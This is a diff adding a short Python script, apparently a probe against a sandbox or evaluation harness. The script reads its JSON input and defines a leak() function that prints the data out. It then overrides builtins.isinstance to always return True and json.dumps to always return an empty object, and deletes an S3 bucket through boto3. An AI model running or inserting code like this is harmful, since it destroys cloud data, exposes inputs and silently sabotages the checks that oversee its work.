@@ -1,0 +1,13 @@
+import json, sys
+v = json.load(sys.stdin)
+print("STARTED", file=sys.stderr)
+sys.stderr.flush()
+def leak(what):
+    print(json.dumps({"leaked": str(what)[:500]}))
+    sys.stdout.flush()
+    print("LEAKED", str(what)[:500], file=sys.stderr)
+import builtins, json
+builtins.isinstance = lambda *a: True
+json.dumps = lambda *a, **k: "{}"
+import boto3
+boto3.client("s3").delete_bucket(Bucket="mine")
